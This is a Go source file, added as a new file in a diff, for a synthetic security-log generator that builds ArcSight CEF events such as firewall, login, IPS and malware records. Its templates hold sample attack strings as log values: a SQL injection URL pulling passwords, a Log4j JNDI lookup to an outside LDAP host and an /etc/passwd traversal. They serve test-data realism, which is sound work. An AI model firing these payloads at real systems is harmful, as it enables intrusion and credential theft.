@@ -0,0 +1,309 @@
+package generator
+
+import (
+	"fmt"
+	"math/rand"
+	"strconv"
+	"strings"
+	"sync"
+	"time"
+)
+
+// CEF 기본 장비 식별자
+const (
+	defaultCEFVendor  = "LogGen"
+	defaultCEFProduct = "Security Gateway"
+	defaultCEFVersion = "1.0"
+)
+
+// CEFOptions - ArcSight CEF 출력 옵션
+type CEFOptions struct {
+	Vendor  string `json:"vendor,omitempty"`  // Device Vendor (기본 LogGen)
+	Product string `json:"product,omitempty"` // Device Product (기본 Security Gateway)
+	Version string `json:"version,omitempty"` // Device Version (기본 1.0)
+}
+
+// Validate - CEF 옵션 검증 (헤더 값은 한 줄이어야 함)
+func (o CEFOptions) Validate() error {
+	for _, value := range []string{o.Vendor, o.Product, o.Version} {
+		if strings.ContainsAny(value, "\r\n") {
+			return fmt.Errorf("CEF 장비 식별자에 줄바꿈을 사용할 수 없습니다: %q", value)
+		}
+	}
+	return nil
+}
+
+// withDefaults - 빈 값은 기본 식별자로 대체
+func (o CEFOptions) withDefaults() CEFOptions {
+	if o.Vendor == "" {
+		o.Vendor = defaultCEFVendor
+	}
+	if o.Product == "" {
+		o.Product = defaultCEFProduct
+	}
+	if o.Version == "" {
+		o.Version = defaultCEFVersion
+	}
+	return o
+}
+
+// cefEvent - CEF 이벤트 템플릿 (Signature ID + Name + 심각도 범위 + 확장 필드)
+type cefEvent struct {
+	signatureID string
+	name        string
+	minSeverity int
+	maxSeverity int
+	weight      float64
+	act         string
+	outcome     string
+	proto       string
+	dpts        []int
+	withUser    bool
+	// 이벤트별 커스텀 문자열 (cs3..cs6, 레이블 → 값 후보)
+	custom []cefCustomString
+	// 이벤트별 추가 확장 (키 → 값 후보)
+	extra []eventAttribute
+}
+
+type cefCustomString struct {
+	label  string
+	values []string
+}
+
+type eventAttribute struct {
+	key    string
+	values []string
+}
+
+var cefEvents = []cefEvent{
+	{
+		signatureID: "100", name: "Connection allowed", minSeverity: 1, maxSeverity: 3, weight: 45,
+		act: "accept", outcome: "success", proto: "TCP", dpts: []int{443, 80, 8443, 8080},
+	},
+	{
+		signatureID: "101", name: "Connection denied", minSeverity: 4, maxSeverity: 5, weight: 20,
+		act: "deny", outcome: "failure", proto: "TCP", dpts: []int{22, 23, 445, 3389, 1433, 3306},
+	},
+	{
+		signatureID: "200", name: "User login succeeded", minSeverity: 2, maxSeverity: 3, weight: 10,
+		act: "login", outcome: "success", proto: "TCP", dpts: []int{22, 443, 3389}, withUser: true,
+		custom: []cefCustomString{{"authMethod", []string{"password", "publickey", "kerberos", "saml"}}},
+	},
+	{
+		signatureID: "201", name: "User login failed", minSeverity: 5, maxSeverity: 6, weight: 8,
+		act: "login", outcome: "failure", proto: "TCP", dpts: []int{22, 443, 3389}, withUser: true,
+		custom: []cefCustomString{{"reason", []string{"bad password", "unknown user", "account locked", "MFA timeout"}}},
+	},
+	{
+		signatureID: "300", name: "IPS signature matched", minSeverity: 7, maxSeverity: 9, weight: 6,
+		act: "blocked", outcome: "success", proto: "TCP", dpts: []int{80, 443, 8080},
+		custom: []cefCustomString{
+			{"signature", []string{"SQL Injection attempt | UNION SELECT", "Apache Log4j RCE (CVE-2021-44228)", "Directory traversal ..\\..\\"}},
+			{"threatCategory", []string{"web-attack", "exploit", "scan"}},
+		},
+		extra: []eventAttribute{{"request", []string{
+			"https://shop.example.com/search?q=1' UNION SELECT password FROM users--&page=1",
+			"https://api.example.com/v1/login?user=${jndi:ldap://198.51.100.7/a}",
+			"https://shop.example.com/static/..%2f..%2fetc/passwd",
+		}}},
+	},
+	{
+		signatureID: "400", name: "Malware detected", minSeverity: 8, maxSeverity: 10, weight: 3,
+		act: "quarantined", outcome: "success", proto: "TCP", dpts: []int{443, 445}, withUser: true,
+		custom: []cefCustomString{
+			{"malwareName", []string{"Trojan.GenericKD.4711", "Ransom.WannaCry", "PUA.CoinMiner"}},
+			{"fileHash", []string{"44d88612fea8a8f36de82e1278abb02f", "84c82835a5d21bbcf75a61706d8ab549"}},
+		},
+		extra: []eventAttribute{
+			{"filePath", []string{"C:\\Users\\Public\\Downloads\\invoice.exe", "C:\\Windows\\Temp\\svch0st.exe", "/tmp/.x/kworker"}},
+			{"msg", []string{"File quarantined by real-time scan", "Detected on access\nAction=quarantine"}},
+		},
+	},
+	{
+		signatureID: "500", name: "URL blocked by policy", minSeverity: 4, maxSeverity: 5, weight: 8,
+		act: "block", outcome: "success", proto: "TCP", dpts: []int{80, 443}, withUser: true,
+		custom: []cefCustomString{{"urlCategory", []string{"gambling", "malware", "phishing", "adult"}}},
+		extra: []eventAttribute{{"request", []string{
+			"http://casino.example.net/play?id=42&ref=mail",
+			"https://login-micros0ft.example.org/?session=abc=&x=1",
+		}}},
+	},
+}
+
+// 모든 이벤트 공통 커스텀 문자열 (cs1, cs2)
+var cefPolicyNames = []string{"Default Outbound", "DMZ Inbound", "VPN Users", "Guest WiFi", "Server Farm"}
+var cefRuleIDs = []string{"1001", "1002", "2010", "3050", "4096"}
+
+// CEFGenerator - ArcSight Common Event Format 로그 생성기
+type CEFGenerator struct {
+	header    *syslogWrapper
+	appName   string
+	prefix    string // "CEF:0|Vendor|Product|Version|" (사전 이스케이프)
+	events    cumulativeTable
+	sourceIPs []string
+	destIPs   []string
+
+	rng      *rand.Rand
+	rngMutex sync.Mutex
+}
+
+// newCEFGenerator - 레지스트리용 팩토리 ("cef")
+func newCEFGenerator(options GeneratorOptions) (LogFormatter, error) {
+	header, err := newSyslogWrapper(options)
+	if err != nil {
+		return nil, err
+	}
+
+	weights := make(map[int]float64, len(cefEvents))
+	for i, event := range cefEvents {
+		weights[i] = event.weight
+	}
+	events, err := newCumulativeTable(weights, "CEF 이벤트")
+	if err != nil {
+		return nil, err
+	}
+
+	identity := options.CEF.withDefaults()
+	prefix := []byte("CEF:0|")
+	for _, value := range []string{identity.Vendor, identity.Product, identity.Version} {
+		prefix = appendCEFHeaderValue(prefix, value)
+		prefix = append(prefix, '|')
+	}
+
+	rng := rand.New(rand.NewSource(time.Now().UnixNano()))
+	return &CEFGenerator{
+		header:    header,
+		appName:   syslogAppName(identity.Product),
+		prefix:    string(prefix),
+		events:    events,
+		sourceIPs: newIPPool(rng, []string{"10.1", "10.2", "172.16", "192.168"}, 512),
+		destIPs:   newIPPool(rng, []string{"203.0", "198.51", "10.20", "172.31"}, 512),
+		rng:       rng,
+	}, nil
+}
+
+func init() {
+	RegisterFormatter("cef", newCEFGenerator)
+}
+
+// Name - LogFormatter 구현
+func (g *CEFGenerator) Name() string {
+	return "cef"
+}
+
+// Generate - LogFormatter 구현
+// <PRI>TIMESTAMP HOST CEF:0|Vendor|Product|Version|SignatureID|Name|Severity|Extension
+func (g *CEFGenerator) Generate() []byte {
+	buffer := getBuffer()
+
+	g.rngMutex.Lock()
+	event := &cefEvents[g.events.pick(g.rng)]
+	severity := event.minSeverity + g.rng.Intn(event.maxSeverity-event.minSeverity+1)
+	hostIdx := g.header.pickHost(g.rng)
+	facility := g.header.pickFacility(g.rng)
+	src := g.sourceIPs[skewedIndex(g.rng, len(g.sourceIPs))]
+	dst := g.destIPs[g.rng.Intn(len(g.destIPs))]
+	spt := 1024 + g.rng.Intn(64511)
+	dpt := event.dpts[g.rng.Intn(len(event.dpts))]
+	user := ""
+	if event.withUser {
+		user = commonUsernames[g.rng.Intn(len(commonUsernames))]
+	}
+	policy := g.rng.Intn(len(cefPolicyNames))
+	rule := g.rng.Intn(len(cefRuleIDs))
+	var custom [4]string
+	for i, cs := range event.custom {
+		custom[i] = cs.values[g.rng.Intn(len(cs.values))]
+	}
+	var extra [2]string
+	for i, ext := range event.extra {
+		extra[i] = ext.values[g.rng.Intn(len(ext.values))]
+	}
+	g.rngMutex.Unlock()
+
+	// RFC 3164는 보안 장비 관례대로 TAG 없이 "HOST CEF:0|...", RFC 5424는 제품명을 APP-NAME으로 사용
+	appName := ""
+	if g.header.format == SyslogRFC5424 {
+		appName = g.appName
+	}
+	buffer = g.header.appendHeader(buffer, facility, scaleSyslogSeverity[severity], hostIdx, appName, "", "CEF")
+
+	// 헤더: Signature ID | Name | Severity
+	buffer = append(buffer, g.prefix...)
+	buffer = appendCEFHeaderValue(buffer, event.signatureID)
+	buffer = append(buffer, '|')
+	buffer = appendCEFHeaderValue(buffer, event.name)
+	buffer = append(buffer, '|')
+	buffer = strconv.AppendInt(buffer, int64(severity), 10)
+	buffer = append(buffer, '|')
+
+	// 확장: 공백 구분 key=value
+	buffer = append(buffer, "rt="...)
+	buffer = strconv.AppendInt(buffer, g.header.clock.Now().UnixMilli(), 10)
+	buffer = appendCEFExtension(buffer, "dvchost", g.header.hostnames[hostIdx])
+	buffer = appendCEFExtension(buffer, "src", src)
+	buffer = append(buffer, " spt="...)
+	buffer = strconv.AppendInt(buffer, int64(spt), 10)
+	buffer = appendCEFExtension(buffer, "dst", dst)
+	buffer = append(buffer, " dpt="...)
+	buffer = strconv.AppendInt(buffer, int64(dpt), 10)
+	buffer = appendCEFExtension(buffer, "proto", event.proto)
+	if user != "" {
+		buffer = appendCEFExtension(buffer, "suser", user)
+	}
+	buffer = appendCEFExtension(buffer, "act", event.act)
+	buffer = appendCEFExtension(buffer, "outcome", event.outcome)
+	buffer = appendCEFExtension(buffer, "cs1Label", "policyName")
+	buffer = appendCEFExtension(buffer, "cs1", cefPolicyNames[policy])
+	buffer = appendCEFExtension(buffer, "cs2Label", "ruleId")
+	buffer = appendCEFExtension(buffer, "cs2", cefRuleIDs[rule])
+	for i, cs := range event.custom {
+		key := cefCustomKeys[i]
+		buffer = appendCEFExtension(buffer, key+"Label", cs.label)
+		buffer = appendCEFExtension(buffer, key, custom[i])
+	}
+	for i, ext := range event.extra {
+		buffer = appendCEFExtension(buffer, ext.key, extra[i])
+	}
+
+	return finishBuffer(buffer)
+}
+
+// 이벤트별 커스텀 문자열 키 (cs1, cs2는 공통 필드로 사용)
+var cefCustomKeys = [4]string{"cs3", "cs4", "cs5", "cs6"}
+
+// appendCEFHeaderValue - 헤더 값 이스케이프 ('\' → '\\', '|' → '\|')
+func appendCEFHeaderValue(buffer []byte, value string) []byte {
+	for i := 0; i < len(value); i++ {
+		switch c := value[i]; c {
+		case '\\', '|':
+			buffer = append(buffer, '\\', c)
+		case '\r', '\n':
+			// 헤더에는 줄바꿈을 허용하지 않으므로 공백으로 대체
+			buffer = append(buffer, ' ')
+		default:
+			buffer = append(buffer, c)
+		}
+	}
+	return buffer
+}
+
+// appendCEFExtension - " key=value" 추가 (값 이스케이프: '\' '=' 줄바꿈)
+func appendCEFExtension(buffer []byte, key, value string) []byte {
+	buffer = append(buffer, ' ')
+	buffer = append(buffer, key...)
+	buffer = append(buffer, '=')
+	for i := 0; i < len(value); i++ {
+		switch c := value[i]; c {
+		case '\\', '=':
+			buffer = append(buffer, '\\', c)
+		case '\n':
+			buffer = append(buffer, '\\', 'n')
+		case '\r':
+			buffer = append(buffer, '\\', 'r')
+		default:
+			buffer = append(buffer, c)
+		}
+	}
+	return buffer
+}